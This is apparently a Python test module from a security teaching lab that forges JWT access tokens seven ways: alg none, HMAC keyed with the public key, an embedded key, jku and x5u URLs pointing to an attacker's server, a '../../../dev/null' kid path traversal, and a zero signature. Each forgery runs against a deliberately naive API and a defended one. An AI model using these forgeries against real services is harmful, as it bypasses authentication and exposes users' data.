"""Mallory signs an access token himself, and makes the API verify it with a key that he chose.

The header of a JWT says how it is signed and with which key, and Mallory writes the header. He says that it is not
signed at all. He says that the signature is a MAC, whose key is the bank's public key. He puts his own key into the
header, or a URL where his key or his certificate lies, or the path of a file whose content he knows. Or he sends a
signature of zeros, which some libraries took for a right one. A naive API does what the header says.

The API stops all of these in one place. It takes the algorithms of the profile, and a key that the bank publishes, by
its id. Nothing in the header can bring another key.
"""

from __future__ import annotations

import secrets
import time
from collections.abc import Callable
from typing import Any

from starlette.responses import JSONResponse, PlainTextResponse, Response

from examples.attack_lab.answers import accepted
from examples.attack_lab.attack import Attack, Play
from examples.attack_lab.jwts import is_signed_with, joined, signed, unsigned, with_mac
from examples.attack_lab.lab import Lab
from examples.attack_lab.mallory import MallorysSite, Seen
from examples.attack_lab.naive import obedient_api as obedient
from examples.attack_lab.naive.obedient_api import LYING_AT, ZEROS, ObedientApi, Way, as_text
from examples.attack_lab.story import Party, Story
from fapikit import PrivateKey
from fapikit.jose.public_key import PublicKey, import_public_jwk

LOOT = "the answer of the API to Alice"
MALLORY, API = Party.MALLORY, Party.ACCOUNTS
MALLORYS_KEY = PrivateKey.generate("ES256")


class KeySite(MallorysSite):
    """Mallory publishes his key."""

    def answer(self, _seen: Seen) -> Response:
        return JSONResponse({"keys": [dict(MALLORYS_KEY.public_jwk)]})


class CertificateSite(MallorysSite):
    """Mallory publishes his certificate."""

    def __init__(self, pem: bytes) -> None:
        super().__init__()
        self._pem = pem

    def answer(self, _seen: Seen) -> Response:
        return Response(self._pem)


Forge = Callable[[Lab, dict[str, Any], PublicKey], str]
"""Takes the claims, and the key that the bank publishes. Returns the forged token."""


def not_signed(_lab: Lab, claims: dict[str, Any], key: PublicKey) -> str:
    return unsigned(claims, typ="at+jwt", kid=key.kid)


def public_key_as_secret(_lab: Lab, claims: dict[str, Any], key: PublicKey) -> str:
    return with_mac(claims, as_text(key), typ="at+jwt", kid=key.kid)


def own_key(_lab: Lab, claims: dict[str, Any], key: PublicKey) -> str:
    return signed(claims, MALLORYS_KEY, typ="at+jwt", kid=key.kid, jwk=dict(MALLORYS_KEY.public_jwk))


def own_url(lab: Lab, claims: dict[str, Any], key: PublicKey) -> str:
    url = f"{lab.serve(KeySite())}/jwks"
    LYING_AT[url] = lambda token: is_signed_with(import_public_jwk(MALLORYS_KEY.public_jwk), token)
    return signed(claims, MALLORYS_KEY, typ="at+jwt", kid=key.kid, jku=url)


def own_certificate(lab: Lab, claims: dict[str, Any], key: PublicKey) -> str:
    files = lab.under("oauth-2.1").bank.client_certificate("mallory-ltd")
    pem = files.certificate.read_bytes()
    url = f"{lab.serve(CertificateSite(pem))}/mallory.pem"
    LYING_AT[url] = obedient.of_certificate(pem)
    mallorys = PrivateKey.from_pem(files.key.read_bytes(), alg="ES256")
    return signed(claims, mallorys, typ="at+jwt", kid=key.kid, x5u=url)


def known_file(_lab: Lab, claims: dict[str, Any], _key: PublicKey) -> str:
    return with_mac(claims, "", typ="at+jwt", kid="../../../dev/null")


def zeros(_lab: Lab, claims: dict[str, Any], key: PublicKey) -> str:
    return f"{joined({'alg': 'ES256', 'typ': 'at+jwt', 'kid': key.kid}, claims)}.{ZEROS}"


def _play(forge: Forge, header: str, *, protected: bool) -> Play:
    def play(lab: Lab, story: Story) -> str:
        world = lab.under("oauth-2.1")
        key = import_public_jwk(lab.http.get(world.metadata["jwks_uri"]).json()["keys"][0])
        if protected:
            api = lab.protect(PlainTextResponse("welcome"), world.bank.issuer)
            honest = {"authorization": f"Bearer {world.bank.access_token(aud=f'{api}/')}"}
            assert lab.http.get(f"{api}/", headers=honest).is_success, "an honest token is good"
        else:
            api = lab.serve(ObedientApi(lab, key))
        token = forge(lab, _claims(world.bank.issuer, api), key)
        story.step(
            MALLORY, API, f"a token of his own, with {header}", "All claims are as the bank would write them."
        )
        answer = lab.http.get(f"{api}/", headers={"authorization": f"Bearer {token}"})
        assert accepted(answer).text == "welcome"
        story.step(API, MALLORY, "Alice's data", "The API did what the header said.")
        return LOOT

    return play


def _claims(issuer: str, api: str) -> dict[str, Any]:
    now = int(time.time())
    return {
        "iss": issuer,
        "aud": f"{api}/",
        "sub": "alice",
        "client_id": "fintech",
        "jti": secrets.token_urlsafe(8),
        "iat": now,
        "exp": now + 60,
    }


def _attack(forge: Forge, header: str, obeyed: Way, **data: Any) -> Attack:
    """`obeyed`: what the mutation check lets the header say."""
    return Attack(
        loot=LOOT,
        countermeasures=("C21",),
        defence="rskit.tokens.jwt._select",
        without=obedient.obeying(obeyed),
        undefended=_play(forge, header, protected=False),
        defended=_play(forge, header, protected=True),
        **data,
    )


ALGORITHM = {"rule": "ForbiddenAlgorithm", "clause": "RFC 8725 3.1"}
SIGNATURE = {"rule": "BadSignature", "clause": "RFC 9068 4-5"}
NONE = _attack(
    not_signed, "alg none", obedient.not_signed, id="N7", title="a JWT that is not signed", **ALGORITHM
)
SECRET = _attack(
    public_key_as_secret,
    "alg HS256",
    obedient.key_as_secret,
    id="N7.2",
    title="the public key as a secret",
    **ALGORITHM,
)
KEY = _attack(
    own_key, "his key in it", obedient.key_inside, id="N7.3", title="a key in the header", **SIGNATURE
)
URL = _attack(
    own_url,
    "a URL of his in it",
    obedient.key_elsewhere,
    id="N7.4",
    title="the URL of a key in the header",
    **SIGNATURE,
)
FILE = _attack(
    known_file,
    "kid ../../../dev/null",
    obedient.file_as_secret,
    id="N7.5",
    title="a path as the key id",
    **ALGORITHM,
)
ZERO = _attack(
    zeros, "a signature of zeros", obedient.zeros, id="N7.6", title="a signature of zeros", **SIGNATURE
)
CERTIFICATE = _attack(
    own_certificate,
    "a URL of his certificate in it",
    obedient.key_elsewhere,
    id="N7.7",
    title="the URL of a certificate in the header",
    **SIGNATURE,
)
